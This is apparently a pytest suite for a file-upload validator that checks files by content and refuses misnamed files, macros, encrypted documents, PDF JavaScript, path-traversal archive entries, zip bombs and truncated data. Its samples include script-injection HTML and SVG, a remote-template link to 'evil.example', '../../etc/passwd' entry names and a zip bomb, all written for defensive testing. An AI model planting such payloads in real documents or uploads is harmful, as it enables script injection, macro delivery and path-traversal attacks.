"""What is taken and what is not, by what is in the file: each refusal, and files that lie, hide, lock or explode."""

from io import BytesIO
from random import Random

import pytest

from files.kinds import PICTURES, recognise
from files.refusals import FileRefused
from tests.files.samples import (
    MACRO_TYPES,
    a_docx,
    a_pdf,
    a_picture,
    a_ppt,
    a_pptx,
    an_open_document,
    boxes,
    compound,
    locked,
    zipped,
)

VBA = "_VBA_PROJECT".encode("utf-16-le")
HAS_MACROS = bytes.fromhex("1f00ff0314000000 020000040c000000 05000000 01000000 02000000")
NO_MACROS = HAS_MACROS[:20] + bytes(4) + HAS_MACROS[24:]
HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\x00" + bytes(200)
TEMPLATE = '<Relationship Type=".../attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>'


def refusal(content: bytes, name: str, **options: object) -> str:
    with pytest.raises(FileRefused) as refused:
        recognise(BytesIO(content), name=name, **options)  # type: ignore[arg-type]
    assert str(refused.value)
    return refused.value.code


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (a_pdf(3), "Runa.pdf", "pdf"),
        (a_pptx(), "Runa.PPTX", "pptx"),
        (a_docx(), "Teksts.docx", "docx"),
        (an_open_document(), "Runa.odp", "odp"),
        (an_open_document("text"), "Teksts.odt", "odt"),
        (a_ppt(NO_MACROS), "Runa.ppt", "ppt"),
        (a_picture(), "Foto.jpeg", "jpeg"),
        (a_picture("PNG"), "Foto.png", "png"),
        (a_picture("WEBP"), "Foto.webp", "webp"),
        (boxes(b"moov", b"mdat"), "Video.mp4", "mp4"),
        (a_pdf(), "bez-galotnes", "pdf"),
    ],
)
def test_every_accepted_kind_is_known_by_its_content(content: bytes, name: str, code: str) -> None:
    source = BytesIO(content)
    assert recognise(source, name=name).code == code
    assert source.tell() == 0


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (HTML, "lapa.html"),
        (SVG, "zime.svg"),
        (EXE, "setup.exe"),
        (zipped(("a.txt", "x")), "viss.zip"),
        (b"GIF89a", "a.gif"),
    ],
)
def test_other_kinds_are_not_accepted(content: bytes, name: str) -> None:
    assert refusal(content, name) == "unknown"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (HTML, "runa.pdf"),
        (SVG, "foto.png"),
        (EXE, "runa.pptx"),
        (a_pdf(), "runa.pptx"),
        (a_pptx(), "teksts.docx"),
        (a_picture("PNG"), "foto.jpg"),
        (a_pdf(), "runa.exe"),
        (a_pdf(), "runa.pdf.html"),
    ],
)
def test_a_file_that_is_not_what_its_name_says_is_refused(content: bytes, name: str) -> None:
    assert refusal(content, name) == "misnamed"


@pytest.mark.parametrize(
    "content",
    [
        a_pptx(types=MACRO_TYPES),
        a_pptx(("ppt/vbaProject.bin", b"x")),
        a_pptx(("ppt/embeddings/Sheet.xlsm", b"x")),
        a_pptx(("ppt/embeddings/oleObject1.bin", b"...." + VBA)),
        a_pptx(("ppt/activeX/activeX1.bin", b"x")),
        a_pptx(("ppt/media/setup.exe", EXE)),
    ],
)
def test_macros_and_programs_are_refused_under_any_name(content: bytes) -> None:
    assert refusal(content, "runa.pptx") == "macros"


def test_macros_are_refused_in_the_other_kinds_as_well() -> None:
    assert refusal(a_docx(("word/_rels/settings.xml.rels", TEMPLATE)), "a.docx") == "macros"
    assert refusal(an_open_document("presentation", ("Basic/Standard/Module1.xml", "x")), "a.odp") == "macros"
    assert refusal(an_open_document("text", ("Scripts/python/a.py", "x")), "a.odt") == "macros"
    assert refusal(a_ppt(b"\0" * 700 + HAS_MACROS), "a.ppt") == "macros"
    assert refusal(a_ppt(_VBA_PROJECT=b"x"), "a.ppt") == "macros"


def test_what_needs_a_password_is_refused() -> None:
    assert refusal(a_pdf().replace(b"/Info 3 0 R", b"/Encrypt 9 0 R /Info 3 0 R"), "a.pdf") == "encrypted"
    assert refusal(compound(EncryptedPackage=b"x", EncryptionInfo=b"y"), "a.pptx") == "encrypted"
    assert refusal(locked(a_pptx()), "a.pptx") == "encrypted"
    assert refusal(an_open_document(manifest="<manifest:encryption-data/>"), "a.odp") == "encrypted"
    user = bytes.fromhex("0000f60f20000000 14000000 dfc4d1f3")
    assert refusal(a_ppt(user=user), "a.ppt") == "encrypted"


def test_a_pdf_with_a_program_is_refused() -> None:
    assert (
        refusal(a_pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript >>"), "a.pdf")
        == "script"
    )


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (a_pdf() + a_pptx(), "a.pdf"),
        (a_pptx() + HTML, "a.pptx"),
        (a_pptx(comment=HTML), "a.pptx"),
        (a_pptx(("../../etc/passwd", "x")), "a.pptx"),
        (a_pptx(("/etc/passwd", "x")), "a.pptx"),
        (a_pptx(("C:\\windows\\a.dll.txt", "x")), "a.pptx"),
    ],
)
def test_a_second_file_inside_and_names_that_lead_elsewhere_are_refused(content: bytes, name: str) -> None:
    assert refusal(content, name) == "two_files"


def test_a_file_that_unpacks_to_far_more_is_refused() -> None:
    bomb = a_pptx(("ppt/media/a.xml", b"\0" * 30_000_000))
    assert len(bomb) < 100_000
    assert refusal(bomb, "a.pptx") == "bomb"
    assert refusal(zipped(*((f"a{number}", "") for number in range(10_001))), "a.pptx") == "bomb"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (a_pdf()[:-40], "a.pdf"),
        (a_pptx()[:-30], "a.pptx"),
        (b"PK\x03\x04" + bytes(500), "a.pptx"),
        (a_ppt()[:1100], "a.ppt"),
        (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(30), "a.ppt"),
        (boxes(b"moov")[:-10], "a.mp4"),
        (boxes(b"mdat"), "a.mp4"),
    ],
)
def test_what_was_cut_off_on_its_way_is_refused(content: bytes, name: str) -> None:
    assert refusal(content, name) == "broken"


def test_an_empty_file_is_said_to_be_empty() -> None:
    assert refusal(b"", "a.pdf") == "empty"


def test_where_a_photograph_is_wanted_nothing_else_is_taken() -> None:
    assert refusal(a_pdf(), "a.pdf", among=PICTURES) == "not_a_picture"
    assert refusal(HTML, "a.html", among=PICTURES) == "not_a_picture"


@pytest.mark.parametrize("seed", range(200))
def test_no_bytes_make_it_fail_in_another_way(seed: int) -> None:
    rng = Random(seed)
    names = {
        "a.pptx": a_pptx(("ppt/x.bin", b"x" * 50)),
        "a.odp": an_open_document(),
        "a.ppt": a_ppt(),
        "a.mp4": boxes(b"moov"),
    }
    for name, whole in names.items():
        broken = bytearray(whole)
        for _change in range(rng.randint(1, 12)):
            broken[rng.randrange(len(broken))] = rng.randrange(256)
        try:
            recognise(BytesIO(bytes(broken)), name=name)
        except FileRefused:
            continue
